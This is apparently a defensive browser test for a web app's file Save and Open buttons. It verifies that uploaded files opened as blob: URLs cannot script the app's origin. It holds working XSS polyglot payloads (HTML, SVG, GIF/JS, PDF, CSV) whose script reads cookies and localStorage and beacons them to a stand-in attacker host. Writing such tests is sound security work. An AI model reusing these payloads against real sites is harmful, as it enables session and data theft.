// The web app's saved files cannot script the app's origin (RELIABILITY.md
// FILE-02), in Debian Chromium against a real `tandemd --demo`. An
// attachment's "Save…" button asks the API for the file's link with the
// session's CSRF token, fetches the file by it from the files origin
// (another host, with no credentials: none of the app's cookies goes
// there), and hands it to the browser as a blob: URL with `download`; its
// "Open" button then opens that blob in a new tab (src/web/files.ts
// `view`). A blob: URL has the app's origin and carries none of the
// server's guards (`attachment`, `nosniff`, `CSP: sandbox`): the type the
// app gives the blob is all that keeps a hostile file from running as a
// page of the app. The app opens only types a browser shows as data
// (`viewableType`), with `noopener`, and leaves the rest in the downloads
// folder.
//
// Through the app's own buttons, signed in as the owner, each file is
// saved and then opened: polyglots the server stores (text that is both a
// page and a program, the same named .html, a PNG with a page appended, a
// GIF that is also JavaScript, a JPEG with a page in its EXIF, a PDF with
// an OpenAction script and a page in a comment, a CSV holding a script),
// from the agent and from a visitor. Pages, SVG and HTML named .png, .txt
// or .pdf are refused at upload, so the server never stores them; to prove
// the app's own allowlist as well, the browser is also given, in place of
// stored files, what a server that had stored them would answer: HTML,
// SVG, XHTML and XML under their own types, HTML under image/png, text/plain
// and application/pdf, and HTML with no type at all.
//
// Each file's script, if it ever ran, would report where it ran with the
// cookies and storage it read (window.__filexss), set a global on its
// opener and its parent, write the origin's localStorage, throw, and
// beacon to a routed attacker host. Every save must download under the
// file's name, byte for byte; every type outside the allowlist must open
// no tab (the app says the file is in the downloads folder); every tab
// opened must be a blob: document holding the file as data (text as text,
// an image as an image, a PDF in the viewer) with no opener, and nothing
// may run. The app's CSP, which Chromium hands on to the blob: documents
// the app makes, is bypassed, so that the type alone is what is proven.
// The test fails when text/html or image/svg+xml joins the allowlist (the
// tab's script reads and writes the origin's storage and beacons it out),
// when `noopener` is dropped (the tab reaches the app), and when the app
// fetches a file's bytes from anywhere but the files origin or sends that
// origin a cookie or a token.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, describe, test } from "node:test";
import { buildTandemd, eventually, launchBrowser, newPage, startTandemd, widgetCall } from "../../../../backend/webwidget/test/browser/harness.mjs";
import { ATTACKER } from "./xss_common.mjs";
import { attaching, exif, images, ran, upload } from "./files_common.mjs";

const CANARY = `canary-${Date.now()}`;

/**
 * js is what a file's script does if a browser runs it: it reports where
 * it ran and what of the origin's session it read, writes the opener's and
 * the parent's globals and the storage, beacons it all out and throws (a
 * page error). No "*" + "/" and no "</script>" in it: it sits inside
 * comments and script elements.
 */
const js = (id) =>
  `var d={id:"${id}",at:location.href,cookie:document.cookie,storage:"-"};` +
  `try{d.storage=JSON.stringify(localStorage);localStorage.setItem("pwned","${id}")}catch(e){d.storage=String(e)}` +
  `try{opener.__pwned=(opener.__pwned||[]).concat(d.id)}catch(e){}` +
  `try{parent.__pwned=(parent.__pwned||[]).concat(d.id)}catch(e){}` +
  `try{__filexss(JSON.stringify(d))}catch(e){}` +
  `new Image().src="https://${ATTACKER}/beacon?"+encodeURIComponent(JSON.stringify(d));` +
  `throw new Error("file02 ${id} ran")`;
const script = (id) => `<script>${js(id)}</script>`;
const page = (id) => `<!DOCTYPE html><html><body><img src=x onerror="${js(`${id}-onerror`).replaceAll('"', "&quot;")}">${script(id)}</body></html>`;
const svg = (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(`${id}-onload`).replaceAll('"', "&quot;")}">${script(id)}</svg>`;
const xhtml = (id) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${script(id)}</body></html>`;
const pdf = (id) =>
  `%PDF-1.7\n%${page(`${id}-html`)}\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
  `3 0 obj<</S/JavaScript/JS(app.alert\\(document.domain\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;

/** text is plain text to the sniffer, a page to an HTML parser and a program to a JavaScript one. */
const text = (id) => Buffer.from(`// meeting notes\n//${script(`${id}-html`)}\n${js(`${id}-js`)}\n`);

/**
 * corpus lists the files. Stored ones are uploaded by who and must come
 * back under type and served; refused ones must be refused naming the
 * type. A routed one is stored as a harmless stand-in, and the browser is
 * given body under type instead (what a server that stored the file would
 * answer). shows is what an opened tab must hold: "text", "image", "pdf",
 * or "" when the app must not open the file at all.
 */
function corpus(png, jpeg) {
  const plain = "text/plain; charset=utf-8";
  const gif = (id) =>
    Buffer.concat([
      Buffer.from("GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=(function(){", "latin1"),
      Buffer.from(`${js(`${id}-js`)}})();//${script(`${id}-html`)}`),
      Buffer.from("\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x00\x3b", "latin1"),
    ]);
  const csv = (id) => Buffer.from(`name,amount,note\nalice,10,"${script(`${id}-html`).replaceAll('"', '""')}"\nbob,20,"${js(`${id}-js`).replaceAll('"', '""')}"\ncarol,30,none\n`);
  const stand = (id) => Buffer.from(`a stand-in for ${id}\n`);
  return [
    // Stored: the server keeps them byte for byte under the type it sniffed.
    { id: "text", who: "agent", name: "notes.txt", body: text("text"), type: plain, served: "notes.txt", shows: "text" },
    { id: "htmlname", who: "agent", name: "invoice.html", body: text("htmlname"), type: plain, served: "invoice.txt", shows: "text" },
    { id: "png", who: "agent", name: "cat.html", body: Buffer.concat([png, Buffer.from(page("png"))]), type: "image/png", served: "cat.png", shows: "image" },
    { id: "gif", who: "agent", name: "pixel.js", body: gif("gif"), type: "image/gif", served: "pixel.gif", shows: "image" },
    { id: "jpeg", who: "agent", name: "photo.jpg", body: exif(jpeg, page("jpeg")), type: "image/jpeg", served: "photo.jpg", shows: "image" },
    { id: "pdf", who: "agent", name: "statement.pdf", body: Buffer.from(pdf("pdf")), type: "application/pdf", served: "statement.pdf", shows: "pdf" },
    { id: "csv", who: "agent", name: "report.csv", body: csv("csv"), type: "text/csv; charset=utf-8", served: "report.csv", shows: "" },
    { id: "vtext", who: "visitor", name: "order.htm", body: text("vtext"), type: plain, served: "order.txt", shows: "text" },
    { id: "vpng", who: "visitor", name: "screenshot.png", body: Buffer.concat([png, Buffer.from(page("vpng"))]), type: "image/png", served: "screenshot.png", shows: "image" },
    { id: "vpdf", who: "visitor", name: "receipt.pdf", body: Buffer.from(pdf("vpdf")), type: "application/pdf", served: "receipt.pdf", shows: "pdf" },
    // Refused at upload: a page, an SVG with script, and a page named .png, .txt and .pdf.
    { id: "page", who: "agent", name: "page.html", body: Buffer.from(page("page")), refused: "text/html" },
    { id: "svg", who: "agent", name: "logo.svg", body: Buffer.from(svg("svg")), refused: "image/svg+xml" },
    { id: "pagepng", who: "agent", name: "photo.png", body: Buffer.from(page("pagepng")), refused: "text/html" },
    { id: "pagetxt", who: "visitor", name: "notes.txt", body: Buffer.from(page("pagetxt")), refused: "text/html" },
    { id: "pagepdf", who: "agent", name: "invoice.pdf", body: Buffer.from(page("pagepdf")), refused: "text/html" },
    // Routed: what the browser is given if a server had stored these (the app's allowlist alone stands in the way).
    { id: "rhtml", who: "agent", name: "r-page.txt", body: stand("rhtml"), routed: { type: "text/html; charset=utf-8", body: Buffer.from(page("rhtml")) }, served: "r-page.txt", shows: "" },
    { id: "rsvg", who: "agent", name: "r-logo.txt", body: stand("rsvg"), routed: { type: "image/svg+xml", body: Buffer.from(svg("rsvg")) }, served: "r-logo.txt", shows: "" },
    { id: "rxhtml", who: "agent", name: "r-xhtml.txt", body: stand("rxhtml"), routed: { type: "application/xhtml+xml", body: Buffer.from(xhtml("rxhtml")) }, served: "r-xhtml.txt", shows: "" },
    { id: "rxml", who: "agent", name: "r-feed.txt", body: stand("rxml"), routed: { type: "text/xml", body: Buffer.from(xhtml("rxml")) }, served: "r-feed.txt", shows: "" },
    { id: "rnotype", who: "agent", name: "r-blank.txt", body: stand("rnotype"), routed: { type: "", body: Buffer.from(page("rnotype")) }, served: "r-blank.txt", shows: "" },
    { id: "rpng", who: "agent", name: "r-photo.txt", body: stand("rpng"), routed: { type: "image/png", body: Buffer.from(page("rpng")) }, served: "r-photo.txt", shows: "image" },
    { id: "rtxt", who: "agent", name: "r-notes.txt", body: stand("rtxt"), routed: { type: "TEXT/PLAIN; charset=utf-8", body: Buffer.from(page("rtxt")) }, served: "r-notes.txt", shows: "text" },
    { id: "rpdf", who: "agent", name: "r-invoice.txt", body: stand("rpdf"), routed: { type: "application/pdf", body: Buffer.from(page("rpdf")) }, served: "r-invoice.txt", shows: "pdf" },
  ];
}

let server;
let browser;

before(async () => {
  // The owner uploads more files at once than the per-member rate allows (limits have tests of their own).
  server = await startTandemd(buildTandemd(), { TANDEM_UPLOADS_PER_MINUTE: "0" });
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

/** widget calls the WidgetService as a visitor (token "" for StartSession). */
const widget = (token, method, body) => widgetCall(server.url, token, method, body);

/**
 * armed opens a fresh browser context signed in to the web app as the
 * owner, with a canary in the origin's storage, the files' marker
 * (__filexss) in every page, the attacker's host routed (and aborted), the
 * routed files' answers, and recorders for every tab, download and page
 * error in the context.
 */
async function armed(files) {
  // Chromium gives a blob: document the CSP of the page that made it: the
  // app's (script-src 'self') would block a file's inline script even in a
  // tab the app should not have opened. It is bypassed here, so that the
  // type the app opens a file as is all that keeps the file inert, as in a
  // host without that inheritance (the Wails webview, an older browser).
  const { context, page } = await newPage(browser, undefined, { bypassCSP: true });
  const w = { context, page, hits: [], beacons: [], errors: [], tabs: [], fetched: [] };
  await context.exposeFunction("__filexss", (d) => w.hits.push(d));
  await context.route((u) => u.hostname === ATTACKER, (route) => {
    w.beacons.push(route.request().url());
    return route.abort();
  });
  // Every request for a file's bytes, wherever it went and with what headers.
  context.on("request", (r) => {
    if (/^\/files\/[^/]+$/.test(new URL(r.url()).pathname)) w.fetched.push(r.allHeaders().then((headers) => ({ url: r.url(), headers }), () => ({ url: r.url(), headers: {} })));
  });
  // The routed answers stand in for the files origin's only: a fetch anywhere else gets tandemd's own.
  const routed = new Map(files.filter((f) => f.routed && f.fileId).map((f) => [`/files/${f.fileId}`, f]));
  await context.route(
    (u) => u.origin === new URL(server.filesUrl).origin && routed.has(u.pathname),
    (route) => {
      const f = routed.get(new URL(route.request().url()).pathname);
      const headers = {
        "Content-Disposition": `attachment; filename=${f.served}`,
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "sandbox; default-src 'none'",
        "Access-Control-Allow-Origin": "*",
      };
      if (f.routed.type) headers["Content-Type"] = f.routed.type;
      return route.fulfill({ status: 200, headers, body: f.routed.body });
    },
  );
  const listen = (p) => p.on("pageerror", (e) => w.errors.push(`${p.url()}: ${e.message}`));
  listen(page);
  context.on("page", (p) => {
    listen(p);
    w.tabs.push(p);
  });
  await page.goto(`${server.url}/app/`);
  await page.locator("#email").fill("owner@demo.tandem");
  await page.locator("#password").fill("tandem-demo");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.locator("main.panes").waitFor();
  await page.evaluate((c) => localStorage.setItem("file02-canary", c), CANARY);
  w.appUrl = page.url();
  return w;
}

/** leaks lists what the app's page holds that only a file's script could have put there, and clears it. */
function leaks() {
  const found = [];
  if (window.__pwned) found.push(`the app's globals were written: ${window.__pwned}`);
  delete window.__pwned;
  if (localStorage.getItem("pwned")) found.push(`the origin's storage was written: ${localStorage.getItem("pwned")}`);
  localStorage.removeItem("pwned");
  return found;
}

/** reached lists every way a file reached the origin since it last looked. */
async function reached(w) {
  return [
    ...w.hits.splice(0).map(ran),
    ...w.beacons.splice(0).map((b) => `its script beaconed to ${ATTACKER} what it read (${b.length} bytes)`),
    ...w.errors.splice(0).map((e) => `a page threw: ${e}`),
    ...(await w.page.evaluate(leaks)).map((l) => `the app: ${l}`),
  ];
}

/** look tells what a tab holds: its document's type, its elements, its text, its images and whether it can reach its opener. */
function look() {
  let stored;
  try {
    stored = localStorage.getItem("pwned");
  } catch (e) {
    stored = String(e);
  }
  return {
    type: document.contentType,
    opener: window.opener === null ? null : "an opener",
    elements: [...document.querySelectorAll("body *")].map((e) => e.localName),
    text: document.body?.innerText ?? "",
    images: [...document.images].map((i) => i.naturalWidth),
    pwned: window.__pwned ?? null,
    stored,
  };
}

/** shown lists what is wrong with a tab that should show f as data of the kind f.shows. */
function shown(f, got) {
  const problems = [];
  const type = (f.routed?.type ?? f.type).split(";")[0].toLowerCase();
  if (got.type !== type) problems.push(`the tab holds a ${got.type} document, not ${type}`);
  if (got.opener !== null) problems.push("the tab can reach the app through window.opener");
  if (got.pwned || got.stored) problems.push(`the tab's script wrote ${got.pwned ?? ""} ${got.stored ?? ""}`);
  // Chromium shows text in a <pre>, an image in an <img>, and a PDF in its viewer, which leaves the page's body empty (or, in older ones, holds an <embed>).
  const want = { text: [["pre"]], image: [["img"]], pdf: [[], ["embed"]] }[f.shows];
  if (!want.some((w) => JSON.stringify(got.elements) === JSON.stringify(w))) problems.push(`the tab's document is made of ${JSON.stringify(got.elements)}, not ${want.map((w) => JSON.stringify(w)).join(" or ")}`);
  if (f.shows === "text" && !got.text.includes("<script>")) problems.push(`the tab does not show the file's markup as text: ${JSON.stringify(got.text.slice(0, 200))}`);
  // A real image is decoded (the GIF polyglot claims to be 10799 pixels wide); a page under image/png is a broken image, never a page.
  if (f.shows === "image" && (got.images[0] > 0) !== !f.routed) problems.push(`the tab's image is ${got.images[0]} pixels wide`);
  return problems;
}

/**
 * saveAndOpen saves f with its Save… button, then presses Open, and lists
 * what went wrong: a download under another name or with other bytes, a
 * tab opened for a type outside the allowlist, a tab that shows the file
 * as anything but data or can reach the app, and anything that ran.
 */
async function saveAndOpen(w, f) {
  const problems = [];
  // The item whose text starts with the name (one name may end another: invoice.txt, r-invoice.txt).
  const item = w.page.locator("section.conversation ul.files li").filter({ hasText: new RegExp(`^\\s*${f.served.replaceAll(".", "\\.")}\\s`) });
  const [download] = await Promise.all([w.page.waitForEvent("download"), item.getByRole("button", { name: "Save…" }).click()]);
  if (download.suggestedFilename() !== f.served) problems.push(`saved as ${download.suggestedFilename()}, not ${f.served}`);
  const bytes = await readFile(await download.path());
  if (!bytes.equals(f.routed?.body ?? f.body)) problems.push(`saved ${bytes.length} bytes that are not the file's`);
  await item.getByText(`saved to ${f.served}`).waitFor();
  problems.push(...(await reached(w)));

  // The last file's toast goes first, so that a refusal below is this file's: a click clears it, and
  // it leaves by itself after 8 s, which on a loaded machine may come while the click still waits.
  const toast = w.page.locator(".toast");
  if (await toast.isVisible()) await toast.click({ timeout: 2000 }).catch(() => {});
  await toast.waitFor({ state: "hidden", timeout: 15_000 });
  const opened = w.tabs.length;
  await item.getByRole("button", { name: "Open" }).click();
  if (!f.shows) {
    // The app says where the file is, or (the failure) opens a tab.
    const refusal = toast.filter({ hasText: "The browser cannot show this kind of file. Open it from your downloads folder." });
    await eventually(async () => w.tabs.length > opened || (await refusal.isVisible()), `the app to refuse to open ${f.id} or open a tab`);
    // view's window.open runs as soon as the refusal would show: a tab would be here by now.
    await w.page.waitForTimeout(500);
    for (const tab of w.tabs.slice(opened)) {
      await tab.waitForLoadState("load");
      await tab.waitForTimeout(300);
      const got = await tab.evaluate(look);
      problems.push(`a tab opened at ${tab.url()} holding a ${got.type} document, for a ${f.routed?.type ?? f.type} file`);
      if (got.pwned || got.stored) problems.push(`the tab's script wrote ${got.pwned ?? ""} ${got.stored ?? ""}`);
      await tab.close();
    }
  } else {
    const tab = await eventually(() => w.tabs[opened], `the tab ${f.id} opens`);
    await tab.waitForLoadState("load");
    if (!tab.url().startsWith(`blob:${server.url}/`)) problems.push(`the tab is at ${tab.url()}, not a blob: URL of the app`);
    // A beacon or a report from a script would be on its way by now.
    await tab.waitForTimeout(300);
    problems.push(...shown(f, await tab.evaluate(look)));
    if (w.tabs.length !== opened + 1) problems.push(`${w.tabs.length - opened} tabs opened`);
    for (const t of w.tabs.slice(opened)) await t.close();
  }
  problems.push(...(await reached(w)));
  if (w.page.url() !== w.appUrl) problems.push(`the app's tab went to ${w.page.url()}`);
  return problems;
}

describe("a saved file cannot script the app's origin", () => {
  test("the app's Save… downloads each file under its name, and its Open shows only data, in a tab with no opener, or opens nothing", async (t) => {
    const [png, jpeg] = await images(browser);
    const files = corpus(png, jpeg);

    // A visitor's conversation (files on in the widget), taken over by the owner.
    const { owner, visitor, convId } = await attaching(server.url, server.key);

    // Uploads through the real API: what is accepted keeps its sniffed type and a name of that type; pages and SVG are refused.
    for (const f of files) {
      const token = f.who === "agent" ? owner.token : visitor;
      const { status, json } = await upload(server.url, token, convId, f);
      if (f.refused !== undefined) {
        assert.equal(status, 400, `${f.id}: ${f.name} is refused: ${JSON.stringify(json)}`);
        assert.ok(json.message.includes(f.refused), `${f.id}: the refusal names the type (${f.refused}): ${json.message}`);
        continue;
      }
      assert.equal(status, 200, `${f.id}: ${f.name} is accepted: ${JSON.stringify(json)}`);
      assert.equal(json.contentType, f.type ?? "text/plain; charset=utf-8", `${f.id}: typed by its content`);
      assert.equal(json.name, f.served, `${f.id}: named for its type`);
      f.fileId = json.id;
      const body = { conversationId: convId, clientId: crypto.randomUUID(), body: "", fileIds: [json.id] };
      if (f.who === "agent") await owner.call("ConversationService", "SendMessage", body);
      else await widget(visitor, "SendMessage", body);
    }
    const kept = files.filter((f) => f.fileId);

    const w = await armed(files);
    await w.page.keyboard.press("g");
    await w.page.keyboard.press("a");
    await w.page.locator(`.row-item[data-id="${convId}"]`).click();
    await w.page.locator("section.conversation ul.files li").nth(kept.length - 1).waitFor();

    const outcomes = [];
    for (const f of kept) {
      const problems = await saveAndOpen(w, f);
      assert.deepEqual(problems, [], `${f.id} (${f.served} from the ${f.who}, given to the browser as ${f.routed?.type ?? f.type}) reached the origin or was not shown as data`);
      outcomes.push(`${f.id}: ${f.shows || "not opened"}`);
    }
    assert.equal(await w.page.evaluate(() => localStorage.getItem("file02-canary")), CANARY, "the canary stayed in the origin's storage, where a file's script would have read it");
    // The bytes came from the files origin, another host than the app's, with none of the app's credentials.
    const filesOrigin = new URL(server.filesUrl).origin;
    assert.notEqual(new URL(server.filesUrl).hostname, new URL(server.url).hostname, "the files origin is another host than the app's");
    const fetched = await Promise.all(w.fetched);
    for (const f of kept) assert.ok(fetched.some((r) => r.url.includes(f.fileId)), `${f.id}: the app fetched the file's bytes`);
    const astray = fetched.filter((r) => new URL(r.url).origin !== filesOrigin || ["cookie", "authorization", "tandem-csrf"].some((h) => r.headers[h] !== undefined));
    assert.deepEqual(astray.map((r) => `${r.url} ${JSON.stringify(r.headers)}`), [], "every file was fetched from the files origin, with no cookie or token");
    t.diagnostic(`saved and opened: ${outcomes.join("; ")}`);
    await w.context.close();
  });
});
